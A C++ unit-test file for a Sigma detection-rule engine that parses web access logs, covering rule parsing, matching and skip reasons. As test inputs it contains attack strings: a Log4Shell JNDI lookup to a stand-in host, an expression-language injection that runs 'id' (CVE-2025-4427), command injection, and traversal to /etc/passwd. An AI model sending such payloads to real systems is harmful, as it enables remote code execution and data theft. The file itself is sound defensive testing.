#include "detect/sigma.h"

#include <gtest/gtest.h>

#include <stdlib.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <string>
#include <vector>

#include "detect/log_parser.h"

namespace rampart::detect {
namespace {

const std::string kSigmaDir = RAMPART_SOURCE_DIR "/../shared/sigma";
constexpr std::string_view kBrowser =
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

std::string Line(std::string_view ip, std::string_view method, std::string_view target, int status,
                 std::string_view ua = kBrowser) {
  return std::string(ip) + " - - [30/Jan/2026:09:15:00 +0000] \"" + std::string(method) + " " +
         std::string(target) + " HTTP/1.1\" " + std::to_string(status) + " 100 \"-\" \"" +
         std::string(ua) + "\"";
}

class Rules {
 public:
  explicit Rules(std::string_view yaml) {
    RuleSetBuilder b;
    status_ = b.AddRuleText(yaml, "test.yml");
    auto r = b.Build();
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    set_ = std::move(r).value();
    matcher_ = std::make_unique<RuleMatcher>(*set_);
  }
  const RuleSet& set() const { return *set_; }
  const Status& status() const { return status_; }
  bool Fires(const std::string& line) {
    Event ev;
    EXPECT_TRUE(ParseAccessLogLine(line, &ev)) << line;
    std::vector<uint32_t> hits;
    matcher_->Match(ev, &hits);
    return !hits.empty();
  }

 private:
  Status status_;
  std::unique_ptr<RuleSet> set_;
  std::unique_ptr<RuleMatcher> matcher_;
};

// A webserver rule of one selection holding one `key: value` entry.
std::string OneEntryRule(std::string_view entry) {
  return "title: One entry\nlogsource: {category: webserver}\ndetection:\n  sel:\n    " +
         std::string(entry) + "\n  condition: sel\n";
}

TEST(SigmaTest, SelectionsConditionsAndModifiers) {
  Rules r(R"(
title: Test rule
id: 1
level: high
tags: [attack.initial-access, attack.t1190, attack.t1505.003]
logsource: {category: webserver}
detection:
  sel_path:
    cs-uri-stem|startswith: '/mifs/'
    cs-method: [GET, POST]
  sel_payload_a:
    cs-uri-query|contains|all: ['gPath', '`']
  sel_payload_b:
    cs-uri-query|endswith: '.JSP'
  filter_local:
    c-ip|cidr: 127.0.0.0/8
  condition: sel_path and 1 of sel_payload_* and not filter_local
)");
  ASSERT_EQ(r.set().size(), 1u);
  EXPECT_EQ(r.set().rule(0).attack, (std::vector<std::string>{"T1190", "T1505.003"}));
  EXPECT_EQ(r.set().rule(0).severity, "high");
  EXPECT_TRUE(r.Fires(Line("203.0.113.1", "GET", "/mifs/x?h=gPath%5B%60id%60%5D", 404)));
  EXPECT_TRUE(r.Fires(Line("203.0.113.1", "post", "/MIFS/a/b/shell.jsp", 200)));
  EXPECT_FALSE(r.Fires(Line("127.0.0.1", "GET", "/mifs/x?h=gPath%5B%60id%60%5D", 404)));
  EXPECT_FALSE(r.Fires(Line("203.0.113.1", "PUT", "/mifs/shell.jsp", 200)));
  EXPECT_FALSE(r.Fires(Line("203.0.113.1", "GET", "/mifs/x?h=gPath", 200)));
  EXPECT_FALSE(r.Fires(Line("203.0.113.1", "GET", "/other/shell.jsp", 200)));
}

// A cidr network takes addresses of its own family only, its prefix counted in the bits of
// its notation.
TEST(SigmaTest, CidrKeepsAddressFamiliesApart) {
  Rules r(R"(
title: Cidr families
logsource: {category: webserver}
detection:
  sel:
    c-ip|cidr: ['::/0', '::ffff:198.51.100.0/120']
  condition: sel
)");
  ASSERT_EQ(r.set().size(), 1u);
  EXPECT_TRUE(r.Fires(Line("2001:db8::7", "GET", "/", 200)));
  EXPECT_TRUE(r.Fires(Line("198.51.100.9", "GET", "/", 200)));
  EXPECT_FALSE(r.Fires(Line("203.0.113.1", "GET", "/", 200))) << "'::/0' takes no IPv4 address";
}

TEST(SigmaTest, ExactWildcardsKeywordsAndNumbers) {
  Rules r(R"(
title: Exact
logsource: {category: proxy}
detection:
  selection:
    c-uri: '/a?c*\*'
    sc-status: 200
  keywords:
    - 'EVIL-AGENT'
  condition: selection or keywords
)");
  ASSERT_EQ(r.set().size(), 1u);
  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/abcdef*", 200)));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/abcdef*", 404)));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/abcdef", 200)));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/xabcdef*", 200)));
  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/", 500, "x evil-agent y")));
}

// An unquoted YAML number is compared as a number; a quoted one stays text.
TEST(SigmaTest, UnquotedNumbersCompareAsNumbers) {
  Rules r(R"(
title: Numbers
logsource: {category: webserver}
detection:
  status_float:
    sc-status: 404.0
  status_text:
    sc-status: '500.0'
  condition: status_float or status_text
)");
  ASSERT_EQ(r.set().size(), 1u);
  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/", 404)));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/", 500))) << "'500.0' is text";
  Rules bytes(OneEntryRule("sc-bytes: [100.0, +7]"));
  EXPECT_TRUE(bytes.Fires(Line("1.2.3.4", "GET", "/", 200))) << "Line() logs 100 bytes";
  ASSERT_EQ(bytes.set().size(), 1u);
  // Not whole, written another way, or a regex: text as written.
  for (const char* value : {"404.5", "404.0000000000000001", "0404", "4.04e2", "0x194"}) {
    SCOPED_TRACE(value);
    Rules other(OneEntryRule("sc-status: " + std::string(value)));
    ASSERT_EQ(other.set().size(), 1u);
    EXPECT_FALSE(other.Fires(Line("1.2.3.4", "GET", "/", 404)));
  }
  Rules regex(OneEntryRule("sc-status|re: 5.0"));
  ASSERT_EQ(regex.set().size(), 1u);
  EXPECT_TRUE(regex.Fires(Line("1.2.3.4", "GET", "/", 510)));
  EXPECT_FALSE(regex.Fires(Line("1.2.3.4", "GET", "/", 205))) << "5.0 is a regex, not 5";
}

// cs-uri-query is the whole target where SigmaHQ writes path fragments under it (contains),
// and the query where a rule asks where it starts, what it is or whether there is one.
TEST(SigmaTest, CsUriQueryIsTheQueryWhereItsStartOrPresenceMatters) {
  Rules starts(OneEntryRule("cs-uri-query|startswith: 'cmd='"));
  ASSERT_EQ(starts.set().size(), 1u);
  EXPECT_TRUE(starts.Fires(Line("1.2.3.4", "GET", "/irj/helper.jsp?cmd=id", 200)));
  EXPECT_FALSE(starts.Fires(Line("1.2.3.4", "GET", "/irj/helper.jsp?x=1&cmd=id", 200)));
  Rules none(R"(
title: No query
logsource: {category: webserver}
detection:
  sel:
    cs-uri-stem|endswith: '.php'
  query:
    cs-uri-query: null
  condition: sel and query
)");
  ASSERT_EQ(none.set().size(), 1u);
  EXPECT_TRUE(none.Fires(Line("1.2.3.4", "GET", "/x.php", 200)));
  EXPECT_FALSE(none.Fires(Line("1.2.3.4", "GET", "/x.php?a=1", 200)));
  Rules absent(OneEntryRule("cs-uri-query|exists: false"));
  ASSERT_EQ(absent.set().size(), 1u);
  EXPECT_TRUE(absent.Fires(Line("1.2.3.4", "GET", "/nul", 200)));
  EXPECT_FALSE(absent.Fires(Line("1.2.3.4", "GET", "/nul?x", 200)));
  Rules fragment(OneEntryRule("cs-uri-query|contains: '/vpns/portal/scripts/'"));
  ASSERT_EQ(fragment.set().size(), 1u);
  EXPECT_TRUE(fragment.Fires(Line("1.2.3.4", "GET", "/vpns/portal/scripts/newbm.pl", 200)));
  // SigmaHQ writes whole paths under it with equality and wildcards (CVE-2021-21972,
  // CVE-2019-11510), and paths under startswith: those stay on the target.
  Rules path(OneEntryRule("cs-uri-query: '/ui/vropspluginui/rest/services/uploadova'"));
  ASSERT_EQ(path.set().size(), 1u);
  EXPECT_TRUE(
      path.Fires(Line("1.2.3.4", "POST", "/ui/vropspluginui/rest/services/uploadova", 200)));
  Rules wildcard(OneEntryRule("cs-uri-query: '*?/dana/html5acc/guacamole/*'"));
  ASSERT_EQ(wildcard.set().size(), 1u);
  EXPECT_TRUE(wildcard.Fires(Line(
      "1.2.3.4", "GET",
      "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
      200)));
  Rules path_start(OneEntryRule("cs-uri-query|startswith: '/mifs/'"));
  ASSERT_EQ(path_start.set().size(), 1u);
  EXPECT_TRUE(path_start.Fires(Line("1.2.3.4", "GET", "/mifs/x?a=1", 200)));
}

TEST(SigmaTest, SecondRuleWithAnIdOrNameIsSkipped) {
  RuleSetBuilder b;
  constexpr std::string_view kRule = R"(
title: %s
id: %s
name: %s
logsource: {category: webserver}
detection:
  sel:
    cs-uri-stem: /x
  condition: sel
)";
  auto rule = [&](const char* title, const char* id, const char* name) {
    char text[512];
    std::snprintf(text, sizeof(text), std::string(kRule).c_str(), title, id, name);
    return std::string(text);
  };
  // A rule refused for its pattern holds no id: the next rule with it loads.
  EXPECT_TRUE(b.AddRuleText(R"(
title: Refused
id: id-0
logsource: {category: webserver}
detection:
  sel:
    cs-uri-stem|re: '(a)\1{2,3}'
  condition: sel
)",
                            "0.yml")
                  .ok());
  EXPECT_TRUE(b.AddRuleText(rule("Zero", "id-0", "zero"), "0b.yml").ok());
  EXPECT_TRUE(b.AddRuleText(rule("First", "id-1", "first"), "a.yml").ok());
  EXPECT_TRUE(b.AddRuleText(rule("Copy", "id-1", "copy"), "b.yml").ok());
  EXPECT_TRUE(b.AddRuleText(rule("Other", "id-2", "first"), "c.yml").ok());
  // One namespace: a name equal to another rule's id is as ambiguous to a correlation.
  EXPECT_TRUE(b.AddRuleText(rule("Crossed", "id-4", "id-1"), "e.yml").ok());
  EXPECT_TRUE(b.AddRuleText(rule("Second", "id-3", "second"), "d.yml").ok());
  auto set = b.Build();
  ASSERT_TRUE(set.ok());
  std::vector<std::string> loaded;
  for (size_t i = 0; i < (*set)->size(); ++i) loaded.push_back((*set)->rule(i).title);
  EXPECT_EQ(loaded, (std::vector<std::string>{"Zero", "First", "Second"}));
  std::map<std::string, std::string> reasons;
  for (const SkippedRule& s : (*set)->skipped()) reasons[s.title] = s.reason;
  ASSERT_EQ(reasons.size(), 4u);
  EXPECT_NE(reasons["Refused"].find("refused by Vectorscan"), std::string::npos);
  EXPECT_EQ(reasons["Copy"], "'id-1' is already the id of 'First' in a.yml");
  EXPECT_EQ(reasons["Other"], "'first' is already the name of 'First' in a.yml");
  EXPECT_EQ(reasons["Crossed"], "'id-1' is already the id of 'First' in a.yml");
}

TEST(SigmaTest, AddPathTakesFilesAndExtensionsInAnyCase) {
  namespace fs = std::filesystem;
  std::string tmpl = (fs::temp_directory_path() / "rampart-sigma-XXXXXX").string();
  ASSERT_NE(::mkdtemp(tmpl.data()), nullptr);
  const fs::path dir = tmpl;
  fs::create_directories(dir / "sub");
  auto write = [](const fs::path& p, std::string_view title) {
    std::ofstream(p) << "title: " << title << "\nlogsource: {category: webserver}\n"
                     << "detection:\n  sel:\n    cs-uri-stem: /" << title << "\n  condition: sel\n";
  };
  write(dir / "a.yml", "a");
  write(dir / "sub" / "B.YML", "b");
  write(dir / "c.Yaml", "c");
  write(dir / "notes.txt", "d");
  write(dir / "one.rule", "e");
  RuleSetBuilder b;
  EXPECT_TRUE(b.AddPath(dir.string()).ok());
  EXPECT_EQ(b.pending(), 3u) << "a.yml, sub/B.YML and c.Yaml; not notes.txt";
  EXPECT_TRUE(b.AddPath((dir / "one.rule").string()).ok()) << "a named file whatever its extension";
  EXPECT_EQ(b.pending(), 4u);
  Status missing = b.AddPath((dir / "missing").string());
  EXPECT_FALSE(missing.ok());
  EXPECT_NE(missing.message().find("missing"), std::string::npos);
  EXPECT_EQ(b.pending(), 4u);
  fs::remove_all(dir);
}

TEST(SigmaTest, RegexNotAndParentheses) {
  Rules r(R"(
title: Re
logsource: {category: webserver}
detection:
  a:
    cs-uri-query|re: '\?d=[0-9]{1,3}\.[0-9]{1,3}$'
  b:
    cs-uri-query|re|i: 'SELECT.+FROM'
  c:
    c-useragent|contains: scanner
  condition: not c and (a or b)
)");
  ASSERT_EQ(r.set().size(), 1u);
  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/x?d=10.20", 200)));
  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/x?q=select%20a%20from", 200)));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/x?q=select%20a%20from", 200, "Scanner/1")));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/x?d=10.20.1", 200)));
}

TEST(SigmaTest, BackreferenceFallsBackToStdRegex) {
  Rules r(R"(
title: Backref
logsource: {category: webserver}
detection:
  selection:
    cs-uri-stem|re: '/(ab)\1/'
  condition: selection
)");
  ASSERT_EQ(r.set().size(), 1u);
  EXPECT_EQ(r.set().fallback_matchers(), 1u);
  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/abab/", 200)));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/abcd/", 200)));
}

TEST(SigmaTest, NegationOnlyRuleIsEvaluatedEveryTime) {
  Rules r(R"(
title: Not GET
logsource: {category: webserver}
detection:
  get:
    cs-method: GET
  condition: not get
)");
  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "DELETE", "/", 200)));
  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/", 200)));
}

TEST(SigmaTest, SkipsWithPreciseReasons) {
  struct Case {
    const char* yaml;
    const char* reason_part;
  };
  const Case cases[] = {
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|base64: x\n  "
       "condition: s\n",
       "line 5: selection 's', key 'c-uri|base64': modifier 'base64'"},
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    Image: x\n  "
       "condition: s\n",
       "line 5: selection 's', key 'Image': field 'Image' has no mapping"},
      // The line is the file's, in a later document too.
      {"# one\n# two\n---\ntitle: b\nlogsource: {category: webserver}\ndetection:\n  s:\n"
       "    c-uri: x\n    cs-method|cased|endswith|x: y\n  condition: s\n",
       "line 9: selection 's', key 'cs-method|cased|endswith|x': modifier 'x'"},
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  keywords:\n    - x\n    - ~\n"
       "  condition: keywords\n",
       "line 6: keywords 'keywords': null keyword"},
      {"title: a\nlogsource: {category: process_creation}\ndetection:\n  s:\n    c-uri: x\n  "
       "condition: s\n",
       "not a web server"},
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri: x\n  "
       "condition: s and t\n",
       "unknown selection 't'"},
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri: x\n  "
       "condition: s | count() > 5\n",
       "aggregation"},
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|re: '(?<=a)b'\n  "
       "condition: s\n",
       "line 5: pattern '(?<=a)b' on url.original refused by Vectorscan"},
      {"title: a\nlogsource: [unclosed\n", "YAML error at line"},
      // Regressions: yaml-cpp 0.7's LoadAll looped forever, allocating, on these (fuzzing);
      // each document is now read on its own, and one it reads nothing from is an error.
      {"# comment\n ,* \n", "YAML error at line 2: nothing could be read"},
      {"title: a\n---\n,a\n", "YAML error at line 3: nothing could be read"},
      {"--- ,\n", "YAML error at line 1: nothing could be read"},
      {"title: x\n%\nlogsource: a\n ,   '|al!': b\n", "rule has no logsource"},
      // Documents after the first keep their line numbers.
      {"title: a\n---\ntitle: [unclosed\n", "YAML error at line 4: end of sequence flow"},
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri: x\n"
       "    c-uri|re: \n      - '(?<=x)a{99999999}'\n  condition: s\n",
       "line 7: pattern"},
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|re: "
       "'(?<=x)a{99999999}'\n  condition: s\n",
       "bounded repeats"},

      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri: x\n  "
       "condition: (s\n",
       "missing ')'"},
      // yaml-cpp reads a quote left open to the end of the document as closed there: the
      // rest of the rule became part of the value ("detection has no condition").
      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|contains: "
       "'/evil\n  condition: s\nlevel: high\n",
       "YAML error at line 5: the quote opened at column 21 is never closed"},
      {"title: a\n---\ntitle: b\nlogsource: {category: webserver}\ndetection:\n  s:\n"
       "    c-uri: \"/e\\\"vil\n  condition: s\n",
       "YAML error at line 7: the quote opened at column 12 is never closed"},
      {"title: a\nlevel: catastrophic\nlogsource: {category: webserver}\ndetection:\n  s:\n"
       "    c-uri: x\n  condition: s\n",
       "level 'catastrophic' is not informational, low, medium, high or critical"},
  };
  // YAML aliases multiply a few hundred bytes into 30,000 values.
  std::string laughs = "title: a\nlogsource: {category: webserver}\ndetection:\n  v: &v [";
  for (int i = 0; i < 100; ++i) laughs += (i ? ",x" : "x") + std::to_string(i);
  laughs +=
      "]\n  m: &m {c-uri: *v, cs-uri: *v, cs-uri-query: *v, cs-uri-stem: *v, cs-method: *v, "
      "sc-status: *v, c-useragent: *v, cs-host: *v, cs-referer: *v, cs-username: *v}\n"
      "  l: [";
  for (int i = 0; i < 30; ++i) laughs += i ? ",*m" : "*m";
  laughs += "]\n  condition: l\n";
  std::vector<Case> all(std::begin(cases), std::end(cases));
  all.push_back({laughs.c_str(), "more than 20000 values"});
  for (const Case& c : all) {
    RuleSetBuilder b;
    b.AddRuleText(c.yaml, "bad.yml").IgnoreError();
    auto set = b.Build();
    ASSERT_TRUE(set.ok());
    EXPECT_EQ((*set)->size(), 0u) << c.yaml;
    ASSERT_EQ((*set)->skipped().size(), 1u) << c.yaml;
    EXPECT_NE((*set)->skipped()[0].reason.find(c.reason_part), std::string::npos)
        << (*set)->skipped()[0].reason;
    EXPECT_EQ((*set)->skipped()[0].file, "bad.yml");
  }
}

TEST(SigmaTest, LevelIsReadWithoutRegardToCase) {
  EXPECT_EQ(*SigmaLevel("Critical"), "critical");
  EXPECT_EQ(*SigmaLevel("informational"), "informational");
  EXPECT_EQ(*SigmaLevel(std::nullopt), "medium");
  EXPECT_FALSE(SigmaLevel("severe").ok());
}

// The fuzzer's input on which yaml-cpp's LoadAll allocated 3.5 GB in 68 s: a directive line
// and NUL bytes inside a document. It is now one document, read as far as yaml-cpp can.
TEST(SigmaTest, DirectiveAndNulInsideADocumentAreRefusedQuickly) {
  const char bytes[] =
      "ti\x82le: Fu\x8a\x85 seee sdtnthon\n%\0'::1/1sti/'\n  ', itle: Fuzz seed nested cond  ', "
      "'ks\0"
      "0f53c0.0/8', -::1/12sti/'\n \0  ";
  RuleSetBuilder b;
  EXPECT_FALSE(b.AddRuleText(std::string_view(bytes, sizeof(bytes) - 1), "fuzz.yml").ok());
  auto set = b.Build();
  ASSERT_TRUE(set.ok());
  EXPECT_EQ((*set)->size(), 0u);
  ASSERT_EQ((*set)->skipped().size(), 1u);
  EXPECT_EQ((*set)->skipped()[0].reason, "rule has no title");
}

TEST(SigmaHqTest, EveryRuleLoadsOrHasAReason) {
  ASSERT_TRUE(std::filesystem::is_directory(kSigmaDir)) << kSigmaDir;
  size_t files = 0;
  for (const auto& e : std::filesystem::recursive_directory_iterator(kSigmaDir)) {
    if (e.path().extension() == ".yml") ++files;
  }
  RuleSetBuilder b;
  ASSERT_TRUE(b.AddDirectory(kSigmaDir).ok());
  auto set = b.Build();
  ASSERT_TRUE(set.ok()) << set.status().ToString();
  const RuleSet& rs = **set;
  EXPECT_EQ(rs.size() + rs.skipped().size(), files);
  std::map<std::string, int> reasons;
  for (const auto& s : rs.skipped()) {
    EXPECT_FALSE(s.reason.empty()) << s.file;
    EXPECT_FALSE(s.file.empty());
    std::cout << "skipped " << s.file.substr(kSigmaDir.size()) << ": " << s.reason << "\n";
  }
  std::cout << "SigmaHQ rules: " << files << " files, " << rs.size() << " loaded, "
            << rs.skipped().size() << " skipped, " << rs.vectorscan_matchers()
            << " Vectorscan matchers, " << rs.exact_matchers() << " exact-value lookups, "
            << rs.fallback_matchers() << " C++ matchers\n";
  EXPECT_GE(rs.size(), files * 9 / 10);

  RuleMatcher m(rs);
  auto fired = [&](const std::string& line) {
    Event ev;
    EXPECT_TRUE(ParseAccessLogLine(line, &ev));
    std::vector<uint32_t> hits;
    m.Match(ev, &hits);
    std::vector<std::string> titles;
    for (uint32_t h : hits) titles.push_back(rs.rule(h).title);
    return titles;
  };
  auto contains = [](const std::vector<std::string>& v, std::string_view part) {
    for (const auto& t : v) {
      if (t.find(part) != std::string::npos) return true;
    }
    return false;
  };
  // CVE-2025-4427/4428 (SigmaHQ's own rule).
  auto hits = fired(Line("203.0.113.5", "GET",
                         "/mifs/rs/api/v2/featureusage?format=%24%7B''.getClass().forName('java."
                         "lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')%7D",
                         400));
  EXPECT_TRUE(contains(hits, "CVE-2025-4427")) << hits.size();
  // Log4Shell in the user agent.
  hits = fired(Line("203.0.113.5", "GET", "/", 200, "${jndi:ldap://x.example/a}"));
  EXPECT_TRUE(contains(hits, "Log4")) << hits.size();
  // Path traversal.
  hits = fired(Line("203.0.113.5", "GET", "/static/../../../../etc/passwd", 404));
  EXPECT_FALSE(hits.empty());
  // Benign MDM traffic fires nothing.
  for (const auto& benign :
       {Line("10.1.2.3", "GET",
             "/mifs/c/appstore/fob/3/17/sha256:kid=1,st=1769760000,h=0a1b2c,"
             "et=1769763600/0f8fad5b-d9cb-469f-a165-70867728950e.ipa",
             200, "MobileIron/12.1 CFNetwork/1410.0.3 Darwin/22.6.0"),
        Line("10.1.2.3", "POST", "/api/v1/devices/checkin", 200, "RampartAgent/0.1"),
        Line("10.1.2.3", "GET", "/index.html", 200)}) {
    hits = fired(benign);
    EXPECT_TRUE(hits.empty()) << benign << " fired " << (hits.empty() ? "" : hits[0]);
  }
}

}  // namespace
}  // namespace rampart::detect
